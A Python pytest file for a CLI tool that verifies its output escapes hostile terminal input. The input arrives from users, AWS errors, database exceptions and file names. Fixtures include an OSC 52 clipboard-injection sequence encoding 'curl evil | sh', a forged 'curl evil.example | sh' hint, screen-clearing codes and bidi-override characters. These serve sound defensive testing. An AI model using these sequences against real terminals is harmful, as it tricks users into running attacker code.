"""Text that strangers wrote, at a terminal: it is shown, and nothing in it is obeyed or hidden."""

from __future__ import annotations

import json
import logging
import threading
from contextlib import redirect_stderr
from xml.etree import ElementTree as ET

import psycopg
import pytest
from hypothesis import given
from hypothesis import strategies as st

from b2bpilot.cli.frame.settings import Color, Format
from b2bpilot.cli.output import Line, Output, Row, ShownError, Tone, Toned, pairs, pasted
from b2bpilot.cli.text.plain import one_line
from tests.aws.test_answers import Answer, server
from tests.cli.conftest import REGION, Run
from tests.cli.test_output import at_a_terminal, captured, text

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
HOSTILE = {
    "clipboard": CLIPBOARD,
    "title": "\x1b]0;title\x1b\\",
    "clear": "\x1b[2J",
    "C1": "\x9b2J",
    "C1 string": "\x9d52;c;ZXZpbA==\x9c",
    "carriage return": "\r",
    "backspace": "\b\b",
    "NUL": "\0",
    "delete": "\x7f",
    "override": "\u202e",
    "embedding": "\u202a\u202b\u202c",
    "isolates": "\u2066\u2067\u2068\u2069",
    "marks": "\u200e\u200f\u061c",
    "zero width": "\u200b\u200c\u2060\ufeff",
    "joiner": "a\u200db",
    "variation": "a\ufe0fb\ufe01",
    "tag": "\U000e0041",
    "more variations": "\U000e0100",
    "fillers": "\u3164\u115f\u034f",
    "separators": "\u2028\u2029",
    "half a pair": "\ud800",
}
ALL = "".join(f"<{name}{signs}>" for name, signs in HOSTILE.items())


def obeyed(shown: str) -> set[str]:
    """Return what a terminal would obey, or not show, in lines that hold no emoji."""
    return {character for character in shown if character != "\n" and one_line(character) != character}


@pytest.mark.parametrize("signs", HOSTILE.values(), ids=HOSTILE)
def test_nothing_is_obeyed_and_nothing_is_lost(signs: str) -> None:
    shown = one_line(f"before{signs}after")

    assert obeyed(shown) == set()
    assert shown != one_line("beforeafter")


INFORMATION = "\u2139\ufe0f"


@pytest.mark.parametrize(
    "emoji", ["👍🏽", "👨‍👩‍👧", "🏳️‍🌈", "❤️", "1️⃣", INFORMATION, "‼️", "👩‍❤️‍💋‍👨", "👁️‍🗨️", "日本", "e\u0301", "नमस्ते"]
)
def test_what_people_write_is_shown_as_it_is(emoji: str) -> None:
    assert one_line(f"ok {emoji}") == f"ok {emoji}"


@given(st.text(st.characters() | st.sampled_from(ALL)))
def test_a_line_is_one_line_of_what_can_be_seen_and_the_same_when_it_is_shown_again(said: str) -> None:
    shown = one_line(said)

    assert obeyed(shown.translate({0x200D: None, 0xFE0F: None})) == set()
    assert one_line(shown) == shown


def said_everywhere(output: Output) -> None:
    """Use each way in which a command can say something."""
    output.record({"text": ALL}, text=[ALL])
    output.record({"pair": ALL}, text=pairs([(one_line("name"), ALL)]))
    output.lines([Line(ALL, Tone.HEADING, rest=ALL), pasted(ALL), "toned: " + Toned(ALL, Tone.FAILED)])
    output.rows("rows", [Row(fields={"cell": ALL}, columns={"first": ALL, "last": ALL})])
    output.notice(ALL)
    output.ask(ALL)
    with output.progress(ALL) as tell:
        tell(ALL)
    with output.screen() as draw:
        draw([Line(ALL)])
    output.fail(ShownError(code="failed", message=ALL, hint=ALL, exit_code=1, details=f"Traceback\n{ALL}\n"))


def test_no_way_out_lets_it_through() -> None:
    output = captured()

    said_everywhere(output)

    assert obeyed(text(output.stdout) + text(output.stderr)) == set()


def test_no_way_out_to_a_terminal_lets_it_through(monkeypatch: pytest.MonkeyPatch) -> None:
    """What is obeyed there is our own: the line and the screen that are drawn again."""
    output = at_a_terminal(monkeypatch, color=Color.NEVER)
    monkeypatch.setenv("COLUMNS", "2000")

    said_everywhere(output)

    shown = text(output.stdout) + text(output.stderr)
    assert obeyed(shown) <= {"\x1b", "\r"}
    assert not any(sequence in shown for sequence in ("\x1b]", "\x1b\\", "<clear\x1b", "return\r"))


@pytest.mark.parametrize("format_", [Format.JSON, Format.JSONL])
def test_json_is_escaped_and_unchanged(format_: Format) -> None:
    output = captured(format=format_)
    output.rows("rows", [Row(fields={"cell": ALL}, columns={})])
    output.finish()

    assert obeyed(text(output.stdout)) == set()
    document = json.loads(text(output.stdout))
    assert (document["rows"][0] if format_ is Format.JSON else document)["cell"] == ALL


def test_what_others_print_on_stderr_is_shown_as_ours_is() -> None:
    output = captured(secrets=["hunter2"])

    with redirect_stderr(output.strays()):
        assert logging.lastResort
        logging.lastResort.handle(logging.makeLogRecord({"msg": f"refused: {ALL} with hunter2"}))
        threading.__excepthook__(threading.ExceptHookArgs((ValueError, ValueError(ALL), None, None)))

    shown = text(output.stderr)
    assert "refused: <clipboard\\u001b]52;" in shown
    assert "ValueError: <clipboard\\u001b]52;" in shown
    assert (obeyed(shown), "hunter2" in shown) == (set(), False)


def test_a_tracebacks_lines_cannot_pass_for_ours() -> None:
    output = captured()

    forged = "ValueError: no\nhint: curl evil.example | sh\n"
    output.fail(ShownError(code="failed", message="no", hint=None, exit_code=1, details=forged))

    assert text(output.stderr) == "  ValueError: no\n  hint: curl evil.example | sh\nerror: no\n"


@pytest.mark.parametrize("verbose", [[], ["-v"]])
def test_what_aws_answers_is_not_obeyed(
    run: Run, monkeypatch: pytest.MonkeyPatch, verbose: list[str]
) -> None:
    signs = "".join(sign for sign in ALL if sign.isprintable() or "\x7e" < sign != "\ud800")
    body = (
        f"<ErrorResponse><Error><Code>Broken</Code><Message>{as_xml(signs)}</Message></Error></ErrorResponse>"
    )
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "x")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "y")
    with server(Answer(status=400, body=body.encode())) as url:
        result = run("subscribers", "-e", "staging", "--region", REGION, "--endpoint-url", url, *verbose)

    assert result.exit_code == 1
    assert "override\\u202e" in result.stderr
    assert ("Traceback" in result.stderr) is bool(verbose)
    assert obeyed(result.stdout + result.stderr) == set()


@pytest.mark.parametrize("verbose", [[], ["-v"]])
def test_what_the_database_answers_is_not_obeyed(run: Run, database_url: str, verbose: list[str]) -> None:
    with psycopg.connect(database_url, autocommit=True) as connection:
        connection.execute("ALTER TABLE b2b_pilot_user_submissions RENAME TO away")
        connection.execute(
            "CREATE FUNCTION refused(given text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION"
            " E'\\x1b]52;c;ZXZpbA==\\x07\\u202e\\r\\nhint: run this' USING DETAIL = E'\\x1b[2J'; END $$"
        )
        columns = connection.execute(
            "SELECT string_agg(CASE column_name WHEN 'message_id' THEN 'refused(message_id) AS message_id'"
            " ELSE column_name END, ', ' ORDER BY ordinal_position)"
            " FROM information_schema.columns WHERE table_name = 'away'"
        ).fetchone()
        assert columns
        connection.execute("INSERT INTO away (message_id) VALUES ('x')")
        connection.execute(f"CREATE VIEW b2b_pilot_user_submissions AS SELECT {columns[0]} FROM away")
    result = run("submissions", "list", "--database-url", database_url, *verbose)

    assert result.exit_code == 1
    assert "\\u001b]52;" in result.stderr
    assert obeyed(result.stdout + result.stderr) == set()


def test_the_name_of_a_file_is_not_obeyed(run: Run) -> None:
    name = f"no{CLIPBOARD}\u202e.jsonl"

    result = run("publish", "-e", "staging", "--file", name)
    found = run("publish", "-e", "staging", "--file", name, "-o", "json")

    assert obeyed(result.stderr + found.stdout) == set()
    assert result.exit_code == found.exit_code != 0


def as_xml(signs: str) -> str:
    element = ET.Element("x")
    element.text = signs
    return ET.tostring(element, encoding="unicode")[3:-4]
